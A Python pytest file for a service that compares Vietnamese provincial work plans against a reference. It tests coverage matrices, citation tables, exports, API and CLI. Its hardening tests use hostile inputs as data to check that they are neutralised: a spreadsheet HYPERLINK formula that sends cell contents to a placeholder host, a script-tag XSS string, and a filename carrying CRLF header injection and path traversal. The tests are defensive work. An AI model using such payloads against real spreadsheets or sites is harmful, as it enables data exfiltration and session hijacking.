"""Coverage on the real plans: requirements of a reference against every plan, citations
per plan, year over year, exports, API and CLI. Expectations come from reading the plans
(the labelled cells of eval/coverage_cells.json were made the same way), not from output."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import pytest
from typer.testing import CliRunner

from indexer.errors import DocumentNotFoundError, InvalidQueryError
from service.cli import app as cli
from service.coverage import (
    checklist_requirements,
    citation_matrix,
    coverage_matrix,
    reference_requirements,
    year_changes,
)
from service.coverage.export import coverage_csv, coverage_xlsx
from service.coverage.requirements import is_aims_heading
from service.exports import safe_cell

Y2025 = "2025-ban-quan-ly-kkt-kcn-khanh-hoa"
Y2026 = "2026-truong-cao-dang-y-te-khanh-hoa"


@pytest.mark.slow
def test_requirements_are_working_points_and_task_rows(reader):
    reqs = reference_requirements(reader, Y2026)
    paragraphs = {p.id: p for p in reader.paragraphs(Y2026)}
    assert reqs, "the 2026 plan sets work"
    assert all(paragraphs[r.id].kind != "heading" for r in reqs)
    assert all(r.section for r in reqs), "the preamble (before the first heading) is left out"
    assert not any(is_aims_heading(r.section[0]) for r in reqs)
    kinds = {r.kind for r in reqs}
    assert "task" in kinds, "the appendix rows (tasks with owner and deadline) are requirements"
    # every non-heading paragraph of a working section is kept (none lost silently)
    work = [
        p
        for p in paragraphs.values()
        if p.kind != "heading"
        and p.section
        and not is_aims_heading(p.section[0])
        and len(p.text.split()) >= 5
    ]
    assert [r.id for r in reqs] == [p.id for p in work]


def test_aims_headings_are_recognised_in_their_usual_forms():
    for heading in ("I. MỤC ĐÍCH, YÊU CẦU", "I. MỤC TIÊU, YÊU CẦU", "1. Mục đích", "Yêu cầu"):
        assert is_aims_heading(heading), heading
    for heading in ("II. NỘI DUNG TUYÊN TRUYỀN", "IV. TỔ CHỨC THỰC HIỆN", "2. Nhiệm vụ"):
        assert not is_aims_heading(heading), heading


@pytest.mark.slow
def test_the_shared_template_is_covered_and_the_unit_specific_point_is_not(reader):
    """Read in the plans: both carry the provincial template (Nghị quyết 09-NQ/TW row, the
    KPI / e-government rows); only the college plans "chuyển đổi số trong giáo dục"."""
    m = coverage_matrix(reader, reference=Y2026)
    assert [p.doc_id for p in m.plans] == [Y2025], "the reference is not among the plans"
    texts = [r.text for r in m.requirements]
    row_09 = next(i for i, t in enumerate(texts) if "09-NQ/TW" in t and t.startswith("Tuyên"))
    cell = m.cells[row_09][0]
    assert cell.status == "covered" and "09-NQ/TW" in (cell.text or "")
    edu = [
        i for i, t in enumerate(texts) if "giáo dục" in t.lower() and "chuyển đổi số" in t.lower()
    ]
    # the readers call these missing; at the balanced threshold (0.36) the college's general
    # IT paragraph still scores them "covered" (make eval counts both as its false positives),
    # but they stay below the template row the two plans share word for word
    assert edu and all(m.cells[i][0].score < cell.score for i in edu)
    plan = m.plans[0]
    assert plan.covered + plan.partial + plan.missing == len(m.requirements)
    assert 0.5 < plan.share < 1.0, "a template copied with unit-specific changes"


@pytest.mark.slow
def test_cells_name_the_matched_paragraph_of_that_plan(reader):
    m = coverage_matrix(reader, reference=Y2025)
    ids = {p.id: p for p in reader.paragraphs(Y2026)}
    for row in m.cells:
        for c in row:
            if c.status == "missing":
                assert c.paragraph_id is None
            else:
                assert c.paragraph_id in ids and ids[c.paragraph_id].text == c.text
                assert ids[c.paragraph_id].kind != "heading"


@pytest.mark.slow
def test_filters_select_the_plans(reader):
    assert [
        p.doc_id for p in coverage_matrix(reader, reference=Y2026, filters={"year": 2025}).plans
    ] == [Y2025]
    only_itself = coverage_matrix(reader, reference=Y2026, filters={"year": 2026})
    assert only_itself.plans == [] and all(row == [] for row in only_itself.cells)
    assert coverage_matrix(reader, reference=Y2026, filters={"province": "Hà Giang"}).plans == []
    with pytest.raises(DocumentNotFoundError):
        coverage_matrix(reader, reference="no-such-plan")


@pytest.mark.slow
def test_a_checklist_line_quoting_a_task_is_covered_where_the_task_is(reader, embedder):
    task = next(p for p in reader.paragraphs(Y2025) if p.kind == "task")
    line = task.text.split(" — ")[0]
    m = coverage_matrix(reader, embedder, checklist=f"- {line}\n\n")
    assert [r.id for r in m.requirements] == ["checklist:1"]
    by_plan = {p.doc_id: c for p, c in zip(m.plans, m.cells[0], strict=True)}
    assert by_plan[Y2025].status == "covered" and by_plan[Y2025].paragraph_id == task.id
    assert m.reference is None


@pytest.mark.slow
def test_a_requirement_does_not_depend_on_its_neighbours(reader, embedder):
    """Scores are per requirement: one line scores the same alone or in a longer list."""
    lines = [p.text.split(" — ")[0] for p in reader.paragraphs(Y2026) if p.kind == "task"][:5]
    alone = coverage_matrix(reader, embedder, checklist=lines[0])
    together = coverage_matrix(reader, embedder, checklist="\n".join(lines))
    assert alone.cells[0] == together.cells[0]


@pytest.mark.parametrize(
    "text, message",
    [("\n \n", "no requirement"), ("x" * 1001, "line 1"), ("a\n" * 301, "more than 300")],
)
def test_bad_checklists_are_one_clear_error(text, message):
    with pytest.raises(InvalidQueryError, match=message):
        checklist_requirements(text)


@pytest.mark.slow
def test_citations_per_plan_agree_with_the_mentions(reader):
    from service.mentions import find_mentions

    table = citation_matrix(reader, required=["09-NQ/TW"])
    row = next(r for r in table.rows if r.key == "09-NQ/TW")
    assert row.required
    mentions = find_mentions(reader, "09-NQ/TW")
    per_plan: dict[str, int] = {}
    for m in mentions.mentions:
        per_plan[m.doc_id] = per_plan.get(m.doc_id, 0) + 1
    assert row.per_plan == per_plan
    assert {p.doc_id for p in table.plans} == {Y2025, Y2026}
    for p in table.plans:
        assert ("09-NQ/TW" in table.omissions[p.doc_id]) == (p.doc_id not in per_plan)


@pytest.mark.slow
def test_a_reference_documents_citations_become_required(reader):
    table = citation_matrix(reader, reference=Y2026)
    assert [p.doc_id for p in table.plans] == [Y2025]
    cited_by_reference = {r["key"] for r in reader.reference_table() if Y2026 in r["doc_ids"]}
    assert set(table.required) == cited_by_reference
    omitted = set(table.omissions[Y2025])
    cited_by_plan = {r["key"] for r in reader.reference_table() if Y2025 in r["doc_ids"]}
    assert omitted == cited_by_reference - cited_by_plan


@pytest.mark.slow
def test_year_over_year_lists_what_moved(reader, embedder):
    lines = [p.text.split(" — ")[0] for p in reader.paragraphs(Y2026) if p.kind == "task"]
    m = coverage_matrix(reader, embedder, checklist="\n".join(lines))
    # the two plans as one unit's 2025 and 2026 plans (the same provincial template)
    m.plans = [replace(p, unit="Đơn vị thử") for p in m.plans]
    [change] = year_changes(m, 2025, 2026)
    j25, j26 = ([p.year for p in m.plans].index(y) for y in (2025, 2026))
    rank = {"missing": 0, "partial": 1, "covered": 2}
    expect_gain = [
        r.id
        for r, row in zip(m.requirements, m.cells, strict=True)
        if rank[row[j26].status] > rank[row[j25].status]
    ]
    expect_loss = [
        r.id
        for r, row in zip(m.requirements, m.cells, strict=True)
        if rank[row[j26].status] < rank[row[j25].status]
    ]
    assert [c.requirement for c in change.gained] == expect_gain
    assert [c.requirement for c in change.lost] == expect_loss
    assert expect_gain, "the 2026 tasks are carried by the 2026 plan, not all by 2025's"
    assert year_changes(m, 2025, 2026, unit="another unit") == []


@pytest.mark.slow
def test_exports_carry_every_cell(reader):
    from openpyxl import load_workbook

    m = coverage_matrix(reader, reference=Y2026)
    rows = list(csv.reader(io.StringIO(coverage_csv(m, "http://x").lstrip("\ufeff"))))
    assert rows[0][:3] == ["STT", "Yêu cầu", "Mã kế hoạch"]
    assert len(rows) - 1 == len(m.requirements) * len(m.plans)
    statuses = [r[6] for r in rows[1:]]
    assert statuses == [c.status for row in m.cells for c in row]
    linked = [r[10] for r in rows[1:] if r[6] != "missing"]
    assert linked and all(link.startswith(f"http://x/doc/{Y2025}#p-") for link in linked)
    wb = load_workbook(io.BytesIO(coverage_xlsx(m, "http://x")))
    sheet = wb["Bao phủ"]
    assert sheet.freeze_panes == "B2"
    body = list(sheet.iter_rows(min_row=2, max_row=1 + len(m.requirements), values_only=True))
    assert [r[0] for r in body] == [safe_cell(q.text) for q in m.requirements]
    assert [r[-1] for r in body] == [m.covering(i) for i in range(len(m.requirements))]
    assert wb["Chi tiết"].max_row == len(rows)


# -- API ----------------------------------------------------------------------------------------
@pytest.mark.slow
def test_api_coverage_matrix_and_downloads(client):
    import docx
    from openpyxl import load_workbook

    r = client.get("/coverage", params={"reference": Y2026})
    assert r.status_code == 200
    body = r.json()
    assert [p["doc_id"] for p in body["plans"]] == [Y2025]
    assert len(body["cells"]) == len(body["requirements"])
    assert all(len(row) == 1 for row in body["cells"])
    x = client.get("/coverage", params={"reference": Y2026, "format": "xlsx"})
    assert x.status_code == 200 and "attachment" in x.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(x.content))["Bao phủ"]
    assert sheet.max_row == len(body["requirements"]) + 2  # header and the share row
    c = client.get("/coverage", params={"reference": Y2026, "format": "csv"})
    assert c.headers["content-type"].startswith("text/csv")
    assert c.text.count("\n") == len(body["requirements"]) + 1
    w = client.get("/coverage", params={"reference": Y2026, "format": "docx"})
    assert w.headers["content-disposition"].endswith('.docx"')
    table = docx.Document(io.BytesIO(w.content)).tables[0]
    assert len(table.rows) == len(body["requirements"]) + 1  # one plan: a row per requirement
    assert table.rows[0].cells[1].text == "Yêu cầu"


@pytest.mark.slow
def test_api_coverage_is_answered_from_the_cache_the_second_time(client):
    holder = client.app.state.holder
    params = {"reference": Y2025, "year": 2026}
    first = client.get("/coverage", params=params).json()
    answers = holder.snapshot.answers
    hits, misses = answers.hits, answers.misses
    assert client.get("/coverage", params=params).json() == first
    assert answers.misses == misses, "nothing computed again"
    assert answers.hits > hits


@pytest.mark.parametrize(
    "params, status, words",
    [
        ({"reference": "nope"}, 404, "valid ids"),
        ({"reference": Y2026, "format": "pdf"}, 422, ""),
        ({}, 422, ""),
    ],
)
@pytest.mark.slow
def test_api_coverage_errors_are_4xx_with_a_message(client, params, status, words):
    r = client.get("/coverage", params=params)
    assert r.status_code == status
    assert words in json.dumps(r.json(), ensure_ascii=False)


@pytest.mark.slow
def test_api_citations_and_changes(client):
    r = client.get("/coverage/citations", params={"required": "09-NQ/TW"})
    assert r.status_code == 200
    body = r.json()
    assert body["required"] == ["09-NQ/TW"]
    assert {p["doc_id"] for p in body["plans"]} == {Y2025, Y2026}
    bad = client.get("/coverage/citations", params={"required": "không phải văn bản"})
    assert bad.status_code == 422
    ch = client.get(
        "/coverage/changes", params={"reference": Y2026, "earlier": 2025, "later": 2026}
    )
    assert ch.status_code == 200 and ch.json() == []  # two different units


# -- CLI ----------------------------------------------------------------------------------------
@pytest.mark.slow
def test_cli_coverage_json_and_workbook(index_dir, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "bao-phu.xlsx"
    r = CliRunner().invoke(
        cli, ["coverage", Y2026, "--index", str(index_dir), "--json", "--xlsx", str(out)]
    )
    assert r.exit_code == 0, r.output
    body = json.loads(r.stdout)
    assert body["plans"][0]["doc_id"] == Y2025
    assert load_workbook(out)["Bao phủ"].max_row == len(body["requirements"]) + 2


@pytest.mark.slow
def test_cli_coverage_readable_and_errors(index_dir, tmp_path):
    r = CliRunner().invoke(cli, ["coverage", Y2026, "--index", str(index_dir)])
    assert r.exit_code == 0 and "share covered" in r.stdout
    r = CliRunner().invoke(
        cli, ["coverage", "--checklist", str(tmp_path / "none.txt"), "--index", str(index_dir)]
    )
    assert r.exit_code == 2 and "cannot read the checklist" in r.output
    bad = tmp_path / "latin1.txt"
    bad.write_bytes("Tuyên truyền".encode("utf-16"))
    r = CliRunner().invoke(cli, ["coverage", "--checklist", str(bad), "--index", str(index_dir)])
    assert r.exit_code == 2 and "not UTF-8" in r.output
    r = CliRunner().invoke(cli, ["coverage", "--index", str(index_dir)])
    assert r.exit_code == 2 and "one of the two" in r.output


@pytest.mark.slow
def test_cli_citations_csv(index_dir, tmp_path):
    out = tmp_path / "trich-dan.csv"
    r = CliRunner().invoke(
        cli,
        ["citations", "--index", str(index_dir), "--required", "09-NQ/TW", "--csv", str(out)],
    )
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8").lstrip("\ufeff"))))
    assert rows[0][:4] == ["Văn bản", "Loại", "Cơ quan ban hành", "Bắt buộc"]
    assert any(row[0] == "09-NQ/TW" and row[3] == "x" for row in rows[1:])


# -- hardening (found by a review pass) ----------------------------------------------------------
@pytest.mark.slow
def test_exports_never_hold_a_formula(reader, embedder):
    """A requirement or paragraph beginning "=", "+", "-" or "@" is shown, never run: CSV and
    XLSX quote it; control characters are dropped before they reach a workbook."""
    from openpyxl import load_workbook

    m = coverage_matrix(
        reader, embedder, checklist='=HYPERLINK("http://x.example/?"&A2, "bấm")\n@SUM(1)\x01 a b'
    )
    m.requirements[1].text += "\x01"  # as if a document carried one
    rows = list(csv.reader(io.StringIO(coverage_csv(m).lstrip("\ufeff"))))
    assert all(not r[1].startswith(("=", "+", "-", "@")) for r in rows[1:])
    assert rows[1][1].startswith("'=HYPERLINK")
    wb = load_workbook(io.BytesIO(coverage_xlsx(m)))
    first = wb["Bao phủ"]["A2"]
    assert first.data_type == "s" and first.value.startswith("'=HYPERLINK")
    assert "\x01" not in wb["Bao phủ"]["A3"].value


@pytest.mark.slow
def test_omissions_do_not_depend_on_the_kind_shown(reader):
    everything = citation_matrix(reader, required=["09-NQ/TW"])
    laws_only = citation_matrix(reader, required=["09-NQ/TW"], cited_kind="Luật")
    assert laws_only.omissions == everything.omissions
    assert all(r.kind == "Luật" or r.required for r in laws_only.rows)


@pytest.mark.slow
def test_too_many_required_documents_is_one_clear_error(reader):
    with pytest.raises(InvalidQueryError, match="at most 100"):
        citation_matrix(reader, required=["09-NQ/TW"] * 101)


@pytest.mark.slow
def test_api_changes_filters_units_like_search_and_refuses_one_year(client):
    r = client.get("/coverage/changes", params={"reference": Y2026, "earlier": 2025, "later": 2025})
    assert r.status_code == 422 and "two different years" in r.text
    r = client.get(
        "/coverage/changes",
        params={"reference": Y2026, "earlier": 2025, "later": 2026, "unit": "no such unit"},
    )
    assert r.status_code == 200 and r.json() == []
    none = client.get("/coverage", params={"reference": Y2026, "year": 1999})
    assert none.status_code == 200 and none.json()["plans"] == []


def test_answer_cache_is_bounded_in_bytes_and_entries():
    from service.live.answers import AnswerCache

    cache = AnswerCache(size=3, max_bytes=100)
    for k in range(5):
        cache.get_or_compute(k, lambda k=k: b"x" * 30)
    assert len(cache) == 3 and cache.nbytes == 90
    cache.get_or_compute("big", lambda: b"x" * 101)  # answered, not kept
    assert "big" not in cache._items and cache.nbytes <= 100
    cache.get_or_compute("half", lambda: b"x" * 60)
    assert cache.nbytes <= 100 and len(cache) == 2


@pytest.mark.slow
def test_cli_says_when_no_plan_matches(index_dir):
    r = CliRunner().invoke(cli, ["coverage", Y2026, "--index", str(index_dir), "--year", "1999"])
    assert r.exit_code == 0 and "no plan matches (year=1999)" in r.stdout


@pytest.mark.parametrize(
    "params, status, words",
    [
        ({"reference": Y2026, "year": "1999"}, 200, "Không có kế hoạch nào khớp"),
        ({"reference": "nope"}, 404, "Không có văn bản «nope»"),
        ({"reference": Y2026, "year": "abc"}, 422, ""),
        ({"reference": "<script>x</script>"}, 404, "&lt;script&gt;"),
    ],
)
@pytest.mark.slow
def test_coverage_page_answers_in_a_sentence(client, params, status, words):
    r = client.get("/bao-phu", params=params)
    assert r.status_code == status and r.headers["content-type"].startswith("text/html")
    assert words in r.text and "<script>x" not in r.text and "Traceback" not in r.text


def test_download_names_keep_only_safe_characters():
    from service.web.routes.downloads import download

    r = download(b"x", 'bao-phu-a"b\r\nSet-Cookie: x=1;/../', "csv")
    assert (
        r.headers["content-disposition"] == 'attachment; filename="bao-phu-a-b-set-cookie-x-1.csv"'
    )
    assert r.headers["content-type"].startswith("text/csv")
    word = download(b"x", "tìm kiếm «AI»", "docx")
    assert word.headers["content-disposition"] == 'attachment; filename="tim-kiem-ai.docx"'


@pytest.mark.slow
def test_a_reference_longer_than_a_matrix_checks_is_one_clear_error(reader, monkeypatch):
    import service.coverage.requirements as requirements

    total = len(reference_requirements(reader, Y2026))
    monkeypatch.setattr(requirements, "MAX_REQUIREMENTS", total - 1)
    with pytest.raises(InvalidQueryError, match=f"has {total} working points.*checklist"):
        coverage_matrix(reader, reference=Y2026)
